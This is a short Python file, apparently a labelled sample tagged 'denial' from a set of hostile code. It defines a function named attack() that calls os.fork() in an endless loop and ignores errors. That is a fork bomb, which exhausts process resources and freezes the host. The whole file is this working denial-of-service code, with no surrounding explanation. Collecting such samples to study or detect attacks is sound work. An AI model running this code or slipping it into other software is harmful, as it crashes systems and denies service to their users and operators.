"""Forks without end.

kind: denial
"""

import os
def attack():
    while True:
        try: os.fork()
        except OSError: pass
